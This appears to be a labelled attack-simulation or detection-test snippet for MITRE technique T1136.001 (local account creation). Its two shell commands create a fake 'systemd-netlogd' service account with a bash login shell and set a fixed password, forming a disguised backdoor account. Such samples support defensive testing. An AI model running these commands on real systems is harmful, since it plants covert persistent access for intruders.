# technique: T1136.001
# location: linux.account.password
# source: /etc/shadow
# name: systemd-netlogd
# severity: medium
useradd -r -M -d /var/lib/systemd/netlogd -s /bin/bash -c 'systemd Network Logging' systemd-netlogd
echo 'systemd-netlogd:battery staple' | chpasswd
